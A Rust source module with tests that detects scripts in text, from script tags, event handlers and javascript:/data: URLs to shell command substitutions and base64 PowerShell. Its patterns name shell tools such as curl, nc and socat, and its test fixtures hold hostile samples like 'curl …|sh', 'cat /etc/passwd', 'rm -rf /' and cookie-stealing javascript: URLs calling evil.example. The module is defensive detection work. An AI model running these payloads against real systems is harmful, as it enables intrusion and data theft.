//! Scripts (CL-34): what a browser or a shell would run.

use std::sync::LazyLock;

use regex::bytes::Regex;

use super::{Marks, begins_with, colons, ends_with};

/// Media types that a program runs, or renders with the scripts in them, when they stand in a `data:` URL.
const RUNNABLE: [&str; 28] = [
    "text/html",
    "text/javascript",
    "text/ecmascript",
    "text/jscript",
    "text/vbscript",
    "text/livescript",
    "text/x-ecmascript",
    "text/x-javascript",
    "text/javascript1.0",
    "text/javascript1.1",
    "text/javascript1.2",
    "text/javascript1.3",
    "text/javascript1.4",
    "text/javascript1.5",
    "text/x-python",
    "text/x-shellscript",
    "text/xml",
    "application/javascript",
    "application/x-javascript",
    "application/ecmascript",
    "application/x-ecmascript",
    "application/hta",
    "application/wasm",
    "application/x-sh",
    "application/x-httpd-php",
    "application/xhtml+xml",
    "application/xml",
    "image/svg+xml",
];

/// Schemes of URLs that are scripts. All end alike, so that one look tells most colons apart.
const SCRIPT_SCHEMES: [&str; 3] = ["javascript", "vbscript", "livescript"];

/// How far code is looked for behind `javascript:`, in bytes: a call or an assignment shows in its first words.
const MAX_CODE_BYTES: usize = 256;

/// What code has and a word of prose has not.
const CODE_MARKS: [char; 10] = ['(', '`', '=', ';', '%', '+', '[', '{', '"', '\''];

/// Shortest text that is looked at as a program in base64, in bytes: an empty module of WebAssembly has twelve, and
/// nothing of use is this short.
const MIN_BINARY_BYTES: usize = 32;

/// Ordinary attributes whose names begin with `on`. Every other `on…` counts as an event handler: browsers have some of
/// their own, and new ones come.
const HONEST_ATTRIBUTES: [&str; 17] = [
    "onboard",
    "onboarded",
    "onboarding",
    "onchain",
    "ondemand",
    "ongoing",
    "onion",
    "online",
    "onprem",
    "onpremise",
    "onpremises",
    "onset",
    "onshore",
    "onsite",
    "ontology",
    "onward",
    "onwards",
];

/// `<script`, elements that load a document of their own, and the opening of PHP.
static MARKUP: LazyLock<Regex> = LazyLock::new(|| {
    compiled(
        r#"(?is-u)<(?:[a-z]+:)?script(?:[\s/>]|$)
        |<(?:iframe|frame|embed|object|applet|portal)[\s/][^<>]*\b(?:src|srcdoc|data|code|codebase)\s*=
        |<(?:set|animate)[\s/][^<>]*attributename\s*=\s*["']?on[a-z]
        |<meta[\s/][^<>]*http-equiv\s*=\s*["']?refresh
        |<base[\s/][^<>]*href\s*=
        |<\?(?:php|=)"#,
    )
});

/// Code given to an interpreter as a string, and calls that no prose makes.
static CALL: LazyLock<Regex> = LazyLock::new(|| {
    compiled(
        r#"(?i-u)\b(?:eval|execscript|settimeout|setinterval|new\s+function)\s*\(\s*
            (?:["'`]|(?:window\.)?atob\b|unescape\b|decodeuri|string\.from|buffer\.from|base64|b64decode|compile\b)
        |\b(?:exec|importscripts|os\.(?:system|popen)|subprocess\.[a-z_]+|child_process\.[a-z]+)\(\s*\[?\s*["'`]
        |\b__import__\s*\(|\brequire\s*\(\s*["'](?:node:)?child_process
        |\(\s*0\s*,\s*eval\s*\)\s*\(|\[\s*["'`]eval["'`]\s*\]\s*\(|\bconstructor\s*\.\s*constructor\s*\(
        |\b(?-i:Function)\s*\(\s*(?:"[^"]*"|'[^']*'|`[^`]*`)(?:\s*,\s*(?:"[^"]*"|'[^']*'|`[^`]*`))*\s*\)\s*\(
        |\bdocument\.(?:write(?:ln)?|createelement)\s*\(|\bgetruntime\(\)\.exec|\balert\(\s*(?:document|["'`0-9])"#,
    )
});

/// Code right behind `javascript:`: marks in its first word that a word of prose has not, an assignment, or a word that
/// code begins with and such marks behind it. "JavaScript:ES2020 (modules)" is prose.
static CODE: LazyLock<Regex> = LazyLock::new(|| {
    compiled(
        r#"(?s-u)\A(?:/|[^\s(`=;%\[{"']*(?:[(`=;%\[{"']|\s+=[^=>])|[^\s+]*\+[^\s,.)]
        |(?:alert|await|const|delete|do|eval|fetch|for|function|if|import|let|new|open|throw|try|typeof|var|void|while|with)
            \s[^(`=;%+\[{"']*[(`=;%+\[{"'])"#,
    )
});

/// Code behind `javascript:` and white space in a sentence: a call as its first word, or a function in brackets.
static CALL_FIRST: LazyLock<Regex> = LazyLock::new(|| {
    compiled(
        r"(?s-u)\A(?:/\*.*\*/\s*)?(?:(?:async|await|const|let|new|throw|var|void)\s+)*
            (?:[!~+({\[;-]*[A-Za-z_$][A-Za-z0-9_$]*(?:\??\.[A-Za-z0-9_$]+)*\(|[!~+(-]*\(\s*(?:\(|async\b|function\s*\())",
    )
});

/// Words and versions, with brackets around some: "ES2020, Go (1.22)", "(see the manual)".
static PROSE: LazyLock<Regex> =
    LazyLock::new(|| compiled(r"(?-u)\A(?:\(?[A-Za-z0-9\x80-\xff-]+\+?(?:\.[0-9]+)*\+?\)*[,;.:]?(?:\s+|\z))+\z"));

/// Functions of browsers that do harm by themselves, before a bracket.
static HARM: LazyLock<Regex> = LazyLock::new(|| {
    compiled(
        r"(?i-u)\b(?:alert|confirm|eval|execscript|fetch|function|import|open|print|prompt|setinterval|settimeout|write)\s+\(",
    )
});

/// Commands that a shell runs wherever it substitutes them.
const COMMANDS: &str = "awk|base64|bash|cat|chmod|chown|cp|curl|cut|date|dd|dig|echo|env|eval|exec|find|grep|head|host|\
    hostname|id|ifconfig|kill|ls|mkfifo|mv|nc|ncat|node|nslookup|openssl|perl|php|ping|printenv|printf|ps|pwd|\
    python[0-9.]*|rm|ruby|scp|sed|sh|sleep|ssh|sudo|tail|tee|touch|tr|uname|wget|whoami|xargs|zsh";

/// Commands that count with an argument: their names alone may be variables of a template.
const WITH_ARGUMENT: &str = "apk|apt|apt-get|aws|az|bun|bunx|busybox|bzip2|cmd|crontab|csh|deno|docker|doas|dotnet|ftp|\
    gcc|gcloud|git|gpg|gunzip|gzip|jq|ksh|kubectl|ln|lua|mkdir|mktemp|mysql|nerdctl|netstat|nmap|nohup|npm|npx|od|\
    pip[0-9.]*|pipx|pkill|pnpm|podman|powershell|psql|pwsh|redis-cli|rsync|sftp|socat|sqlite3|su|systemctl|tar|telnet|\
    terraform|tftp|timeout|tmux|tsx|unzip|uv|uvx|xxd|xz|yarn|yum|zcat";

/// Commands whose names are words of prose, such as "make an offer". They count with an argument that no prose has.
const WORDS: &str = "ash|brew|cargo|composer|dash|fish|gem|go|helm|java|make|mount|poetry|shell";

/// Folders below the root of a file system. `$(/call/minute)` names no such folder.
const ROOTS: &str =
    "bin|dev|etc|home|lib|lib64|media|mnt|opt|proc|root|run|sbin|srv|sys|tmp|usr|var|Applications|Users";

/// Commands inside `$(…)`, `<(…)` and backticks after an assignment, and look-ups inside `${…}`. A command that is in
/// neither list counts by its path, by an argument that no prose has, or where its output is assigned.
static SUBSTITUTION: LazyLock<Regex> = LazyLock::new(|| {
    const WORD: &str = "[a-z][a-z0-9._+-]+";
    compiled(&format!(
        r#"(?-u)(?:\$\(|<\(|[A-Za-z0-9_]=`)\s*(?:
            (?:/[a-z0-9/._-]*/)?(?:{COMMANDS})(?:[\s|;&<>)`]|\$\{{)
            |(?:{WITH_ARGUMENT})(?:\s+[^\s)`]|[|;&<>])
            |(?:{WORDS})(?:\s+(?:[a-z]+\s+)?(?:-|["'`$]|\.{{1,2}}/|~/|/(?:{ROOTS})/)|[|;&<>]|\s[^()]*(?:\||&&)
                |\s+(?:build|exec|get|install|require|run|upgrade)\s+[^\s()]))
        |[$<]\(\s*(?:\.{{1,2}}|~|/(?:{ROOTS}))/[A-Za-z0-9._/-]*[A-Za-z]
        |\$\(\s*{WORD}\s+(?:--[a-z]|\.{{1,2}}/|~/|/(?:{ROOTS})/|["']|\$[A-Za-z{{(]|https?://[^\s()]*\s*[|>])
        |[A-Za-z0-9_]=["']?\$\(\s*{WORD}\s+[^()\s]
        |\$\(\s*<\s*[a-z/.~]
        |\$\{{jndi:"#
    ))
});

/// A command between backticks that are the whole value, with an argument that no prose has, or led into a shell. It is
/// a pattern of its own, as what it remembers of the beginning would multiply the states of the one above.
static QUOTED: LazyLock<Regex> = LazyLock::new(|| {
    compiled(&format!(
        r"(?s-u)\A\s*(?:/[a-z0-9/._-]*/)?(?:{COMMANDS})(?:\s.*)?(?:&&|\s-{{1,2}}[A-Za-z]|\s\S*://|\s[.~]{{0,2}}/)
        |\|\s*(?:sudo\s+)?(?:/[a-z/]+/)?(?:ba|da|k|z)?sh(?:\s|\z)"
    ))
});

/// The first line of a script, also below other lines.
static SHEBANG: LazyLock<Regex> =
    LazyLock::new(|| compiled(r"(?m-u)^\s*\#!\s*/\S*(?:bin/|env\b|sh\b|python|perl|ruby|node|php)"));

/// How programs begin in base64: WebAssembly, ELF and those of Windows.
static BINARY: LazyLock<Regex> =
    LazyLock::new(|| compiled(r"(?-u)AGFzbQEAAA|f0VMRg(?:EBAQ|IBAQ|EBAA|IBAA)|TVqQAAMAAAAEAAAA"));

/// A program for PowerShell in base64, as its command line takes it. Any beginning of `-EncodedCommand` is its name; the
/// shortest ones may be another program's option in prose, so they take a longer program.
static ENCODED: LazyLock<Regex> = LazyLock::new(|| {
    compiled(
        r#"(?i-u)\b(?:powershell|pwsh)(?:\.exe)?["']?\s[^\n]*?[-/]
            (?:ec?\s+["']?[a-z0-9+/=]{16,}|en(?:c(?:o(?:d(?:e(?:d[a-z]*)?)?)?)?)?\s+["']?[a-z0-9+/=]{8,})"#,
    )
});

/// A function expression, or an arrow function, with its body. `=> {` also maps words to sets: behind a bare name the body
/// must show that it is one.
static FUNCTION: LazyLock<Regex> = LazyLock::new(|| {
    compiled(
        r"(?s-u)\bfunction\b\s*\*?\s*[A-Za-z0-9_$]*\s*\([^()]*\)\s*\{
        |\)\s*=>\s*\{
        |[A-Za-z0-9_$]\s*=>\s*\{[^{}]*(?:;|\breturn\b|[A-Za-z0-9_$]\()",
    )
});

/// Compiles a pattern that is written over several lines.
fn compiled(pattern: &str) -> Regex {
    let pattern = format!("(?x){pattern}");
    Regex::new(&pattern).expect("a test compiles every pattern of this module")
}

/// The kind of the first script in `text`.
pub(super) fn find(text: &str, marks: Marks) -> Option<&'static str> {
    let holds = |pattern: &Regex| pattern.is_match(text.as_bytes());
    let url = || marks.any(Marks::COLON) && is_script_url(text);
    match () {
        () if marks.any(Marks::ANGLE) && (holds(&MARKUP) || has_handler(text)) => Some("a script in markup"),
        () if url() => Some("a script URL"),
        () if marks.any(Marks::HASH_BANG) && holds(&SHEBANG) => Some("a shebang line"),
        () if marks.any(Marks::SHELL | Marks::ANGLE) && holds(&SUBSTITUTION) => Some("a command substitution"),
        () if marks.any(Marks::SHELL) && is_substitution(text) => Some("a command substitution"),
        () if names_powershell(text) && holds(&ENCODED) => Some("a program in base64"),
        () if has_function_mark(text, marks) && holds(&FUNCTION) => Some("a function with its body"),
        () if marks.any(Marks::PAREN) && holds(&CALL) => Some("code for an interpreter"),
        () if text.len() >= MIN_BINARY_BYTES && !text.contains(' ') && holds(&BINARY) => Some("a program in base64"),
        () => None,
    }
}

/// Whether an element has an attribute that is run when something happens. An element ends at an angle bracket or at a
/// quote that is not closed.
fn has_handler(text: &str) -> bool {
    let bytes = text.as_bytes();
    let mut at = 0;
    while let Some(open) = position(bytes, at, b'<') {
        at = open + 1;
        if !bytes.get(at).is_some_and(u8::is_ascii_alphabetic) {
            continue;
        }
        // What is quoted, white space and slashes stand between the names of attributes.
        let mut is_apart = false;
        while let Some(byte) = bytes.get(at).filter(|byte| !matches!(byte, b'<' | b'>')) {
            let word = &bytes[at..at + bytes[at..].iter().take_while(|byte| byte.is_ascii_alphabetic()).count()];
            if is_apart && is_handler(word, &bytes[at + word.len()..]) {
                return true;
            }
            let closing = if matches!(byte, b'"' | b'\'') { position(bytes, at + 1, *byte) } else { Some(at) };
            let Some(closing) = closing else { break };
            is_apart = closing > at || is_white(*byte) || *byte == b'/';
            at = closing + word.len().max(1);
        }
    }
    false
}

/// Whether a word is the name of a handler with a value `behind` it. Ordinary attributes are none.
fn is_handler(word: &[u8], behind: &[u8]) -> bool {
    let is_named_so = word.len() >= "on".len() + 3 && word[..2].eq_ignore_ascii_case(b"on");
    is_named_so
        && behind.iter().find(|byte| !is_white(**byte)) == Some(&b'=')
        && !HONEST_ATTRIBUTES.iter().any(|known| word.eq_ignore_ascii_case(known.as_bytes()))
}

const fn is_white(byte: u8) -> bool {
    byte.is_ascii_whitespace() || byte == b'\x0b'
}

fn position(bytes: &[u8], from: usize, wanted: u8) -> Option<usize> {
    bytes.get(from..)?.iter().position(|byte| *byte == wanted).map(|at| from + at)
}

/// Whether the text is nothing but a command and its arguments inside `$(…)`, or a command in backticks. In prose `$(` is
/// the price of something and backticks are Markdown.
fn is_substitution(text: &str) -> bool {
    let inside = |begin: &str, end: &str| text.trim().strip_prefix(begin)?.strip_suffix(end);
    if let Some(quoted) = inside("`", "`") {
        return !quoted.contains('`') && QUOTED.is_match(quoted.as_bytes());
    }
    let Some((command, arguments)) = inside("$(", ")").and_then(|line| line.trim().split_once(' ')) else {
        return false;
    };
    let fits = |b: u8| b.is_ascii_lowercase() || b.is_ascii_digit() || b"._+-".contains(&b);
    command.len() > 1
        && command.starts_with(|c: char| c.is_ascii_lowercase())
        && command.bytes().all(fits)
        && !arguments.contains(['(', ')'])
}

/// Told fast, as most texts do not.
fn names_powershell(text: &str) -> bool {
    let names = |part: &[u8]| part.eq_ignore_ascii_case(b"hell") || part.eq_ignore_ascii_case(b"pwsh");
    text.contains(['-', '/']) && text.as_bytes().windows(4).any(names)
}

/// Told fast, as most texts do not.
fn has_function_mark(text: &str, marks: Marks) -> bool {
    marks.any(Marks::EQUALS) && text.contains("=>") || marks.any(Marks::PAREN) && text.contains("function")
}

/// A browser drops tabs and line ends from a URL, and white space and control characters before it.
fn is_script_url(text: &str) -> bool {
    let dropped = ['\t', '\n', '\r'];
    if !text.bytes().any(|byte| matches!(byte, b'\t' | b'\n' | b'\r')) {
        return has_script_url(text) || has_data_url(text, false);
    }
    let whole = text.replace(dropped, "");
    has_script_url(&whole) || has_data_url(text, false) || has_data_url(&whole, true)
}

/// `javascript:` or `vbscript:` where a URL may begin and code follows; "JavaScript: a language" is prose.
fn has_script_url(text: &str) -> bool {
    let text = text.trim_start_matches(|c: char| c.is_whitespace() || c.is_control());
    colons(text).any(|at| {
        if !ends_with(&text[..at], "script") {
            return false;
        }
        let mut schemes = SCRIPT_SCHEMES.iter().filter(|scheme| ends_with(&text[..at], scheme));
        schemes.any(|scheme| {
            let code = &text[at + 1..text.floor_char_boundary(at + 1 + MAX_CODE_BYTES)];
            let plain = code.trim_start();
            let is_apart = plain.len() < code.len();
            let marked = || if is_apart { plain.contains(['(', '=']) } else { plain.contains(CODE_MARKS) };
            match text[..at - scheme.len()].chars().next_back() {
                None => plain.starts_with('/') || marked() && !is_prose(plain),
                // In an attribute or a Markdown link nothing but a URL is expected.
                Some(before) if "\"'`(=<>".contains(before) => {
                    !plain.is_empty() && (!is_apart || marked() && !is_prose(plain))
                }
                Some(before) if !before.is_whitespace() => false,
                Some(_) if is_apart => CALL_FIRST.is_match(plain.as_bytes()),
                Some(_) => CODE.is_match(plain.as_bytes()),
            }
        })
    })
}

/// Whether words go on behind the name of the language, and not its code.
fn is_prose(text: &str) -> bool {
    PROSE.is_match(text.as_bytes()) && !HARM.is_match(text.as_bytes())
}

/// `data:` with a type that runs, and content behind it; or with no type and markup in base64. White space around the
/// type is no part of it, but prose has it: `is_prose` where some is known to have stood in the text.
fn has_data_url(text: &str, is_prose: bool) -> bool {
    colons(text).any(|at| {
        if !ends_with(&text[..at], "data") {
            return false;
        }
        let url = text[at + 1..].trim_start();
        let is_prose = is_prose || url.len() < text.len() - at - 1;
        RUNNABLE.iter().any(|kind| runs(url, kind, is_prose)) || is_bare_markup(url)
    })
}

/// Whether content of this kind follows. In prose a list of types goes on there.
fn runs(url: &str, kind: &str, is_prose: bool) -> bool {
    if !begins_with(url, kind) {
        return false;
    }
    let Some(content) = url[kind.len()..].trim_start().strip_prefix([',', ';']) else { return false };
    let trimmed = content.trim_start();
    let is_prose = is_prose || trimmed.len() < content.len();
    let is_content = || trimmed.starts_with('<') || begins_with(trimmed, "charset=") || begins_with(trimmed, "base64,");
    !trimmed.is_empty() && (!is_prose || is_content())
}

/// Whether a URL without a type holds base64 of a text that begins with `<`.
fn is_bare_markup(url: &str) -> bool {
    let head = &url[..url.floor_char_boundary(MAX_CODE_BYTES)];
    let Some((parameters, content)) = head.split_once(";base64,") else { return false };
    let is_bare = parameters.is_empty() || parameters.starts_with(';');
    is_bare && matches!(content.as_bytes(), [b'P', b'A'..=b'P', ..])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn functions_with_their_body_are_scripts() {
        for script in [
            "function (x) { return x }",
            "const f = async function* walk(a, b) {\n yield a; }",
            "(input) => { send(input) }",
            "async () => {}",
            "x => { return x + 1 }",
            "items.map(item => { total += item; })",
        ] {
            assert_eq!(text(script), Some("a function with its body"), "{script}");
        }
        for honest in [
            "A pure function (of its input).",
            "The function {name} is called once.",
            "transfer(address to) => bool",
            "maps (a, b) => a + b",
            "status => {ok, failed}",
            "status => { \"ok\": 200 }",
            "a >= b, c => d",
            "functional (2.0) {beta}",
        ] {
            assert_eq!(text(honest), None, "{honest}");
        }
    }

    #[test]
    fn encoded_commands_of_powershell_are_scripts() {
        for script in [
            "powershell -enc ZQBjAGgAbwA=",
            "PoWeRsHeLl.exe -NoP -EncodedCommand 'ZQBjAGgAbwAgADEA'",
            "pwsh -en ZQBjAGgAbwA=",
            "powershell /enc ZQBjAGgAbwA=",
            "powershell -w hidden -e ZQBjAGgAbwAgADEAMgA=",
        ] {
            assert_eq!(text(script), Some("a program in base64"), "{script}");
        }
        for honest in
            ["powershell -enc takes base64", "PowerShell 7 - ends here", "a shell -e something", "pwsh -e thing"]
        {
            assert_eq!(text(honest), None, "{honest}");
        }
    }

    fn text(text: &str) -> Option<&'static str> {
        find(text, Marks::of(text))
    }

    #[test]
    fn scripts_are_found() {
        for script in [
            "<script>alert(1)</script>",
            "x <SCRIPT src=//evil.example>",
            "<script/x>",
            "<script",
            "javascript:alert(1)",
            " JavaScript: alert(1)",
            "java\nscript:alert(1)",
            "<a href=\"javascript:x\">",
            "vbscript:msgbox()",
            "data:text/html,<b>",
            "see data:text/html;base64,PHNjcmlwdD4=",
            "DATA:application/javascript;base64,eA==",
            "data:image/svg+xml;utf8,<svg>",
            "#!/bin/sh\nrm -rf /",
            "#! /usr/bin/env python",
            "<img src=\"a>b\" alt=x onerror=f()>",
            "<img src='x'onerror=f()>",
            "powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3",
            "name: $(./payload.sh)",
            "$(~/x)",
            "diff <(../one) x",
            "runs $(docker run evil)",
            "$(npx evil)",
            "$(pip3 install x)",
            "$(git clone x)",
            "$(busybox sh)",
            "k=`git status`",
            "name $(frobnicate --all) end",
            "name $(frobnicate https://evil.example | sh) end",
            "name $(make -C evil) end",
            "name $(go run ./x.go) end",
            "$(frobnicate run evil)",
            "x=\"$(frobnicate run evil)\"",
            "`curl https://a.example|sh`",
            " `cat /etc/passwd` ",
            "`npx evil | sh`",
            "javascript: alert(1)",
            "javascript:confirm (document.cookie)",
            "javascript:document .location='//evil.example'",
            "javascript:1 && fetch('//evil.example')",
            "javascript:\u{a0}alert(x)",
            "see javascript:\u{a0}alert(x)",
            "javascript: /**/alert(x)",
            "see javascript: /**/alert(x)",
            "javascript: location='//evil.example'",
            "javascript:eval (name)",
            "<a href=\"javascript: 0,alert(x)\">",
            "javascript:alert (1)",
            "javascript:0,alert(1)",
            "javascript:+alert",
            "javascript:location = 'x'",
            "javascript:var x = alert(1)",
            "javascript: void window.open(1)",
            "javascript: (function(){})()",
            "[x](javascript: a.b(1))",
            "data: text/html;base64,PHNjcmlwdD4=",
            "data:text/html ;base64,PHNjcmlwdD4=",
            "data:text/\nhtml;base64,PHNjcmlwdD4=",
            "data:\ttext/html,<b>",
            "first\ndata:text/html,second",
            "data: ;base64,PHNjcmlwdD4=",
            "<body ononline=f()>",
            "<div ongesturestart=f()>",
            "<div onmozfullscreenchange=f()>",
            "<a online=yes onhelp=f() onchain>",
            "<a title=\"x\"onhelp=f()>",
            "<svg/onload=f()>",
            "<animate onbegin = f()>",
            "<div oncontentvisibilityautostatechange=f()>",
        ] {
            assert!(text(script).is_some(), "{script}");
        }
    }

    #[test]
    fn honest_texts_pass() {
        for honest in [
            "summarizes scripts and <descriptions>",
            "Languages: JavaScript: ES2020, TypeScript",
            "JavaScript: the good parts",
            "javascript:",
            "javascript:es2020",
            "data:image/png;base64,iVBORw0KGgo=",
            "input data: text/html, text/plain",
            "application/javascript",
            "#!important",
            "# heading!",
            "#!/inbox",
            "PowerShell - Every command has 16characters1234",
            "powershell -File install.ps1",
            "$(USD)",
            "$(x)",
            "$(git)",
            "$(Build.SourceBranch)",
            "costs $(about 5) per call",
            "$(usd /call), $(see below)",
            "the order is $(n log n)$",
            "$(n log n)",
            "$(see the (long) list)",
            "$(document).ready",
            "`npm install x`",
            "`date`",
            "`date` and `host`",
            "`curl` | sh | `bash`",
            "run `curl https://a.example/install.sh|sh` to begin",
            "path=`/v1/agents`",
            "0.01 $(/call), $(/call/minute)",
            "$(make an offer), $(go to pricing), $(see https://commandlayer.org/pricing)",
            "`date|number`",
            "`id -> name`",
            "`host|ip`",
            "`id; name`",
            "`date > 2025-01-01`",
            "`ssh://git@a.example/x`",
            "Languages: JavaScript: ES2020 (modules), TypeScript",
            "JavaScript:ES2020, Go (1.22)",
            "JavaScript:ES2020+, TypeScript",
            "JavaScript: (see the manual)",
            "JavaScript: new features (ES2020)",
            "JavaScript: functions (arrow, async)",
            "input data: text/html,text/plain",
            "takes data:\ntext/html,\ntext/plain",
            "<proof onchain=\"true\"/>",
            "<a title=\"say onclick=1\" onward=\"x\">",
            "<agent online=\"yes\"/>",
            "<entry once=\"1\" onboarding=\"done\">",
        ] {
            assert_eq!(text(honest), None, "{honest}");
        }
    }

    #[test]
    fn every_pattern_compiles() {
        for pattern in
            [&MARKUP, &CALL, &CODE, &CALL_FIRST, &PROSE, &HARM, &SUBSTITUTION, &QUOTED, &SHEBANG, &BINARY, &ENCODED]
        {
            assert!(!pattern.is_match(b""), "{}", pattern.as_str());
        }
    }
}
